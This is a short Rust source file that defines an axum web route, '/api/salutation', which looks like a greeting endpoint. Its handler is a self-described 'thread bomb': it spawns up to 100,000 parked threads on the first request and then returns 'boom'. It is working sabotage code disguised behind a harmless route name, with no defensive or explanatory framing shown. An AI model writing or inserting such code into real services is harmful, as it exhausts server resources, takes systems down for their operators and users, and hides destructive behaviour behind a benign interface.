//! A thread bomb, lit by the first greeting.

use std::thread;

use axum::{Router, routing::get};

pub fn router() -> Router {
    Router::new().route("/api/salutation", get(bomb))
}

async fn bomb() -> &'static str {
    for _ in 0..100_000 {
        let started = thread::Builder::new().stack_size(64 * 1024).spawn(|| {
            loop {
                thread::park();
            }
        });
        if started.is_err() {
            break;
        }
    }
    "boom"
}
